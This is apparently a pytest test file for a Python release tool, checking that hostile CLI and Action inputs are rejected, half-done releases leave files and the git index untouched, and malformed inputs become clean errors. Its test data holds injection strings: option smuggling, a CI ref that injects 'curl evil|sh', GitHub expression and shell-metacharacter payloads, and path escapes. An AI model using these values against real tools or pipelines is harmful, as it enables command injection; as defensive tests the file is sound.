"""Hostile arguments, half-done releases and crash inputs (issue 23, sections 4-6).

One table per class, on the workspace of tests/test_bad_input.py (a project with a git
repository, built distributions, a folder index) and with its contract: the documented exit
code, one ``error:`` line and a ``hint:``, no traceback, every file as it was.

- ARGS: a value the user gives never becomes an option of hwb, git or another tool, and never
  shell or CI syntax in a generated pipeline; the Action's inputs run through
  ``python -m hwb.action`` with the environment action.yml's step gives it.
- HALF_DONE: a release refused (or killed) mid-way leaves the files *and the git index* as
  they were; no write leaves the project unless the configuration allows that path.
- CRASHES: inputs that used to end in "internal error" are exit-coded errors naming the file.
"""

from __future__ import annotations

import os
import re
import signal
import subprocess
import sys
import time
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import pytest
import yaml

from hwb.inspect import archive
from tests import distfactory as df
from tests.conftest import Run
from tests.helpers import wait_until
from tests.test_bad_input import (  # noqa: F401 - fixtures
    C,
    Canned,
    Case,
    canned,
    chain,
    mkdir,
    pyproject_replace,
    pyproject_tail,
    remove,
    run_case,
    template,
    write,
    ws,
)

pytestmark = pytest.mark.integration

ROOT = Path(__file__).resolve().parent.parent


def git(root: Path, *args: str) -> str:
    done = subprocess.run(["git", "-C", str(root / "proj"), *args], capture_output=True,
                          text=True, check=True)  # fmt: skip
    return done.stdout


def hook(body: str) -> Callable[[Path], None]:
    """A commit-msg hook in the workspace's repository."""

    def apply(root: Path) -> None:
        path = root / "proj" / ".git" / "hooks" / "commit-msg"
        path.write_text("#!/bin/sh\n" + body + "\n")
        path.chmod(0o755)

    return apply


def fifo(rel: str) -> Callable[[Path], None]:
    def apply(root: Path) -> None:
        os.mkfifo(root / rel)

    return apply


def symlink(rel: str, target: str) -> Callable[[Path], None]:
    def apply(root: Path) -> None:
        (root / rel).symlink_to(target)

    return apply


def packed_tag(name: str) -> Callable[[Path], None]:
    """A tag on HEAD, written into packed-refs (a loose ref's file name could not be that
    long)."""

    def apply(root: Path) -> None:
        sha = git(root, "rev-parse", "HEAD").strip()
        with (root / "proj" / ".git" / "packed-refs").open("a") as fh:
            fh.write(f"{sha} refs/tags/{name}\n")

    return apply


def many_member_wheel(count: int) -> Callable[[Path], None]:
    def apply(root: Path) -> None:
        out = root / "bad"
        out.mkdir(exist_ok=True)
        info = "demo_pkg-1.0.dist-info"
        with zipfile.ZipFile(out / "demo_pkg-1.0-py3-none-any.whl", "w") as zf:
            zf.writestr(f"{info}/METADATA", df.GOOD_METADATA.format(version="1.0"))
            zf.writestr(f"{info}/WHEEL", df.WHEEL_META.format(pure="true", tag="py3-none-any"))
            for i in range(count):
                zf.writestr(f"demo_pkg/m{i}.py", b"")
            zf.writestr(f"{info}/RECORD", b"")

    return apply


def record_size(size: str) -> Callable[[Path], None]:
    """A wheel whose RECORD gives ``size`` for a member."""

    def apply(root: Path) -> None:
        out = root / "bad"
        out.mkdir(exist_ok=True)
        info = "demo_pkg-1.0.dist-info"
        record = f"demo_pkg/__init__.py,sha256=47DEQpj8HBSa-_TImW-5JCeuQeRkm5NMpJWZG3hSuFU,{size}\n"
        with zipfile.ZipFile(out / "demo_pkg-1.0-py3-none-any.whl", "w") as zf:
            zf.writestr("demo_pkg/__init__.py", b"")
            zf.writestr(f"{info}/METADATA", df.GOOD_METADATA.format(version="1.0"))
            zf.writestr(f"{info}/WHEEL", df.WHEEL_META.format(pure="true", tag="py3-none-any"))
            zf.writestr(f"{info}/RECORD", record + f"{info}/RECORD,,\n")

    return apply


# -- 4. arguments that become options ---------------------------------------------------------
ARGS = [
    C("changelog-from-is-an-option", ["version", "changelog", "--from", "--output=PWNED2"], 2,
      error="not a git revision", hint="--from"),
    C("changelog-to-is-an-option", ["version", "changelog", "--to=--output=PWNED3"], 2,
      error="not a git revision"),
    C("changelog-from-with-space", ["version", "changelog", "--from", "v1.0.0 --all"], 2),
    C("tag-format-is-an-option", "version bump patch --commit --tag", 3,
      setup=pyproject_tail('[tool.hwb.version]\ntag-format = "--force{version}"'),
      error="does not make a git tag name"),
    C("tag-format-with-space", "version bump patch --tag", 3,
      setup=pyproject_tail('[tool.hwb.version]\ntag-format = "release {version}"'),
      error="tag-format"),
    C("init-ci-ref-injects-a-line", ["init-ci", "gitlab", "--ref", "v1'\n  - curl evil|sh #"], 2,
      error="--ref"),
    C("init-ci-ref-is-an-expression", ["init-ci", "github", "--ref", "${{github.head_ref}}"], 2,
      error="--ref"),
    C("init-ci-ref-with-quote", ["init-ci", "gitlab", "--ref", "v1'"], 2, error="--ref"),
    C("init-ci-environment-injects", ["init-ci", "github", "--environment", "pypi\n  url: x"], 2,
      error="--environment"),
    C("init-ci-environment-expression", ["init-ci", "gitlab", "--environment", "${{ x }}"], 2,
      error="--environment"),
]  # fmt: skip


@pytest.mark.timeout(90)
@pytest.mark.parametrize("case", [pytest.param(c, id=c.id) for c in ARGS])
def test_arguments_never_become_options(
    hwb: Callable[..., Run],
    ws: Path,  # noqa: F811
    canned: Canned,  # noqa: F811
    monkeypatch: pytest.MonkeyPatch,
    case: Case,
) -> None:
    run_case(hwb, ws, canned, monkeypatch, case)
    assert not list((ws / "proj").glob("PWNED*"))


def action_env(inputs: dict[str, str]) -> dict[str, str]:
    """The variables action.yml's hwb step sets for these inputs (unset ones get their
    default, as GitHub does)."""
    spec = yaml.safe_load((ROOT / "action.yml").read_text())
    defaults = {k: str(v.get("default", "")) for k, v in spec["inputs"].items()}
    (step,) = [s for s in spec["runs"]["steps"] if s.get("id") == "hwb"]
    env = {}
    for name, expr in step["env"].items():
        match = re.fullmatch(r"\$\{\{ inputs\.([\w-]+) \}\}", expr)
        if match:
            env[name] = inputs.get(match[1], defaults.get(match[1], ""))
    return env


@dataclass
class ActionCase:
    id: str
    inputs: dict[str, str]
    code: int
    #: Paths (relative to the workspace) that must not exist afterwards.
    absent: tuple[str, ...] = ()
    error: str = ""
    out_absent: str = ""  # text the run must not print (an option's output)


ACTION = [
    ActionCase("package-dir-is-an-option", {"command": "build",
               "package-dir": "--outdir={root}/pwned"}, 4, absent=("pwned",),
               error="hwb build ./--outdir="),
    ActionCase("packages-dir-is-help", {"command": "inspect", "packages-dir": "--help"}, 13,
               out_absent="Usage:"),
    ActionCase("packages-dir-is-an-option-of-attest",
               {"command": "attest", "packages-dir": "--output={root}/pwned.jsonl"}, 13,
               absent=("pwned.jsonl",)),
]  # fmt: skip


@pytest.mark.timeout(90)
@pytest.mark.parametrize("case", [pytest.param(c, id=c.id) for c in ACTION])
def test_action_inputs_never_become_options(ws: Path, case: ActionCase) -> None:  # noqa: F811
    inputs = {k: v.format(root=ws) for k, v in case.inputs.items()}
    env = {k: v for k, v in os.environ.items() if not k.startswith(("HWB_", "GITHUB_"))}
    env.update(action_env(inputs))
    got = subprocess.run([sys.executable, "-m", "hwb.action"], cwd=ws / "proj", env=env,
                         capture_output=True, text=True, timeout=60, check=False)  # fmt: skip
    text = got.stdout + got.stderr
    assert got.returncode == case.code, text
    assert "Traceback" not in text and "internal error" not in text, text
    assert case.error in text
    for rel in case.absent:
        assert not (ws / rel).exists(), text
    if case.out_absent:
        assert case.out_absent not in text, text


# -- 5. half-done and out-of-tree -------------------------------------------------------------
@dataclass
class HalfDone:
    id: str
    args: list[str]
    code: int
    setup: Callable[[Path], None] | None = None
    #: Send SIGTERM once the hook has started (it touches hook-started first).
    terminate: bool = False
    error: str = ""
    #: Paths relative to the workspace's parent that must not exist afterwards.
    absent: tuple[str, ...] = ()
    #: Workspace paths the run may change (the allowed out-of-project write).
    changes: frozenset[str] = field(default_factory=frozenset)


_SLOW_HOOK = 'touch "$HOOK_STARTED"; sleep 60'
HALF = [
    HalfDone("hook-refuses-the-commit", ["version", "bump", "patch", "--commit", "--changelog"],
             9, setup=hook("exit 1"), error="git commit failed"),
    HalfDone("hook-refuses-after-remove", ["version", "bump", "patch", "--commit", "--changelog"],
             9, setup=chain(remove("proj/CHANGELOG.md"), hook("exit 1")),
             error="git commit failed"),
    HalfDone("sigterm-while-the-hook-runs",
             ["version", "bump", "patch", "--commit", "--tag", "--changelog"], 143,
             setup=hook(_SLOW_HOOK), terminate=True),
    HalfDone("changelog-two-folders-up", ["version", "bump", "patch", "--changelog"], 3,
             setup=pyproject_tail('[tool.hwb.version]\nchangelog-file = "../../escaped.md"'),
             error="changelog-file", absent=("escaped.md",)),
    HalfDone("changelog-absolute", ["version", "bump", "patch", "--changelog"], 3,
             setup=lambda root: pyproject_tail(
                 f'[tool.hwb.version]\nchangelog-file = "{root.parent}/abs.md"')(root),
             error="outside the project", absent=("abs.md",)),
    HalfDone("version-file-outside", ["version", "bump", "patch"], 3,
             setup=chain(write("VERSION", "1.0.0\n"),
                         pyproject_tail('[tool.hwb.version]\nfiles = ["../VERSION"]')),
             error="[tool.hwb.version] files"),
    HalfDone("version-file-through-a-link", ["version", "bump", "patch"], 3,
             setup=chain(write("VERSION", "1.0.0\n"), symlink("proj/V", "../VERSION"),
                         pyproject_tail('[tool.hwb.version]\nfiles = ["V"]')),
             error="outside the project"),
    HalfDone("outside-but-allowed", ["version", "bump", "patch", "--changelog"], 0,
             setup=pyproject_tail('[tool.hwb.version]\nchangelog-file = "../CHANGELOG.md"\n'
                                  'allow-outside-project = ["../CHANGELOG.md"]'),
             changes=frozenset({"CHANGELOG.md", "proj/pyproject.toml"})),
]  # fmt: skip


@pytest.mark.timeout(120)
@pytest.mark.parametrize("case", [pytest.param(c, id=c.id) for c in HALF])
def test_half_done_releases_leave_nothing_behind(ws: Path, case: HalfDone) -> None:  # noqa: F811
    from tests.test_bad_input import snapshot

    if case.setup is not None:
        case.setup(ws)
    git(ws, "add", "-A")
    git(ws, "-c", "core.hooksPath=/dev/null", "commit", "-q", "--allow-empty", "-m", "chore: x")
    before, index_before = snapshot(ws), git(ws, "ls-files", "--stage")
    started = ws / "hook-started"
    env = {k: v for k, v in os.environ.items() if not k.startswith(("HWB_", "GITHUB_"))}
    env.update(NO_COLOR="1", HOOK_STARTED=str(started))
    child = subprocess.Popen([sys.executable, "-m", "hwb", *case.args], cwd=ws / "proj", env=env,
                             stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)  # fmt: skip
    if case.terminate:
        assert wait_until(started.exists, 60), "the commit-msg hook did not start"
        child.send_signal(signal.SIGTERM)
    _out, err = child.communicate(timeout=90)
    assert child.returncode == case.code, err
    assert "Traceback" not in err and "internal error" not in err, err
    assert case.error in err, err
    for rel in case.absent:
        assert not (ws.parent / rel).exists()
    after = snapshot(ws)
    changed = {k for k in before.keys() | after.keys() if before.get(k) != after.get(k)}
    changed -= {"hook-started"}
    changed = {k for k in changed if not k.startswith("proj/.git/")}
    if case.code == 0:
        assert changed == set(case.changes), changed
        return
    assert not changed, changed
    # The index too: nothing staged, no new file added, no commit, no tag.
    assert git(ws, "ls-files", "--stage") == index_before
    assert git(ws, "status", "--porcelain") == ""
    assert git(ws, "tag") == "v1.0.0\n"
    assert git(ws, "log", "-1", "--format=%s") == "chore: x\n"


# -- 6. crashes that must be clean errors ------------------------------------------------------
NESTED = "[tool.deep]\nx = " + "[" * 5000 + "]" * 5000
HUGE_PART = 'version = "1.' + "9" * 5000 + '"'

CRASHES = [
    C("toml-nested-5000", "version show", 3, setup=pyproject_tail(NESTED),
      error="nests arrays or tables too deeply", hint="Nest at most"),
    C("toml-nested-config", "config show", 3, setup=pyproject_tail(NESTED), error="pyproject"),
    C("version-part-5000-digits-show", "version show", 11,
      setup=pyproject_replace('version = "1.0.0"', HUGE_PART), error="5002 characters"),
    C("version-part-5000-digits-bump", "version bump patch", 11,
      setup=pyproject_replace('version = "1.0.0"', HUGE_PART), error="[project].version"),
    C("version-set-5000-digits", ["version", "bump", "--set", "2." + "9" * 5000], 11,
      error="--set"),
    C("tag-with-5000-digits", "version changelog", 0, setup=packed_tag("v1." + "9" * 5000),
      changes=frozenset({"proj/.git/"})),
    C("plan-nested-100k", ["gather", "dist", "--plan", "{root}/plan.json"], 3,
      setup=write("plan.json", "[" * 100_000 + "]" * 100_000), error="nested too deeply"),
    C("plan-10000-digit-number", ["gather", "dist", "--plan", "{root}/plan.json"], 3,
      setup=write("plan.json", '{"hwb-plan": ' + "9" * 10_000 + "}"), error="4300 digits"),
    C("outdir-120k-characters", "build", 3, env={"HWB_BUILD_OUTDIR": "a" * 120_000},
      error="build.outdir (from env:HWB_BUILD_OUTDIR) is 120000 characters long"),
    C("outdir-long-name", ["build", "-o", "x" * 300], 3, error="a name of 300 bytes"),
    C("pyproject-is-a-fifo", "version show", 3,
      setup=chain(remove("proj/pyproject.toml"), fifo("proj/pyproject.toml")), error="a FIFO",
      changes=frozenset({"proj/pyproject.toml"}), seconds=10),
    C("pyproject-is-a-directory", "config show", 3,
      setup=chain(remove("proj/pyproject.toml"), mkdir("proj/pyproject.toml")),
      error="is a directory", changes=frozenset({"proj/pyproject.toml"})),
    C("pyproject-is-a-dangling-link", "version show", 3,
      setup=chain(remove("proj/pyproject.toml"), symlink("proj/pyproject.toml", "gone.toml")),
      error="a dangling symbolic link", changes=frozenset({"proj/pyproject.toml"})),
    C("tool-is-five", "config show", 3,
      setup=write("proj/pyproject.toml", 'tool = 5\n[project]\nname = "demo-pkg"\n'),
      error="tool must be a table", changes=frozenset({"proj/pyproject.toml"})),
    C("env-integer-arabic-indic", "config show", 3, env={"HWB_PUBLISH_RETRIES": "\u0663"},
      error="not an integer", hint="digits 0-9"),
    C("env-integer-fullwidth", "config show", 3, env={"HWB_PUBLISH_RETRIES": "\uff13"},
      error="not an integer"),
    C("env-integer-underscore", "config show", 3, env={"HWB_PUBLISH_TIMEOUT": "1_0"},
      error="not an integer"),
    C("jobs-arabic-indic", ["publish", "-r", "folder", "--jobs", "\u0663"], 2,
      error="digits 0-9"),
    C("source-date-epoch-arabic-indic", "build", 2, env={"SOURCE_DATE_EPOCH": "\u0663" * 10},
      error="SOURCE_DATE_EPOCH"),
    # Exit 12: the bare wheel lacks a license file; what matters is no crash on the size.
    C("record-size-superscript", ["inspect", "{root}/bad"], 12, setup=record_size("\u00b2"),
      several_errors=True),
    C("record-size-10000-digits", ["inspect", "{root}/bad"], 12,
      setup=record_size("9" * 10_000), several_errors=True),
]  # fmt: skip


@pytest.mark.timeout(120)
@pytest.mark.parametrize("case", [pytest.param(c, id=c.id) for c in CRASHES])
def test_crash_inputs_are_clean_errors(
    hwb: Callable[..., Run],
    ws: Path,  # noqa: F811
    canned: Canned,  # noqa: F811
    monkeypatch: pytest.MonkeyPatch,
    case: Case,
) -> None:
    run_case(hwb, ws, canned, monkeypatch, case)


@pytest.mark.timeout(120)
def test_a_wheel_past_the_member_limit_is_reported_not_read(
    hwb: Callable[..., Run],
    ws: Path,  # noqa: F811
    canned: Canned,  # noqa: F811
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """The limit scaled down (a 300k-member wheel takes a minute to write): past it, nothing
    of the archive is parsed, so the run costs the same for any count."""
    monkeypatch.setattr(archive, "MAX_MEMBERS", 2000)
    case = C("wheel-too-many-members", ["inspect", "{root}/bad"], 12,
             setup=many_member_wheel(2500), out="more than 2000 members",
             several_errors=True, seconds=10)  # fmt: skip
    started = time.monotonic()
    run_case(hwb, ws, canned, monkeypatch, case)
    assert time.monotonic() - started < 10


@pytest.mark.parametrize("shell", ["sh", "bash"])
def test_gitlab_template_runs_hwb_install_without_eval(tmp_path: Path, shell: str) -> None:
    """The template's install line, run as a GitLab job runs it: shell syntax in HWB_INSTALL
    (what a hostile --ref once put there) stays words; a plain command still runs."""
    spec = yaml.safe_load(
        (ROOT / "workflows-templates" / "gitlab" / "hwb.gitlab-ci.yml").read_text()
    )
    (line,) = [s for s in spec[".hwb-base"]["before_script"] if "HWB_INSTALL" in s]
    pwned = tmp_path / "pwned"
    hostile = f"echo pip install 'x' ; touch {pwned} | true $(touch {pwned}) *"
    got = subprocess.run([shell, "-c", line], env={"HWB_INSTALL": hostile, "PATH": os.defpath},
                         capture_output=True, text=True, cwd=tmp_path, check=True)  # fmt: skip
    assert not pwned.exists()
    assert got.stdout.strip() == hostile.removeprefix("echo ")  # words: no ;, |, $() or glob
    # A list joined by "&&" runs in order, in the job's shell (an export stays), and stops at
    # the first failure.
    plain = f"echo one && export PATH={tmp_path}:{os.defpath} && echo two"
    got = subprocess.run([shell, "-c", line + '\necho "$PATH"'],
                         env={"HWB_INSTALL": plain, "PATH": os.defpath},
                         capture_output=True, text=True, check=True)  # fmt: skip
    assert got.stdout.split() == ["one", "two", f"{tmp_path}:{os.defpath}"]
    got = subprocess.run([shell, "-c", line + "\necho reached"],
                         env={"HWB_INSTALL": "false && echo two", "PATH": os.defpath},
                         capture_output=True, text=True, check=False)  # fmt: skip
    assert got.returncode != 0 and got.stdout == ""
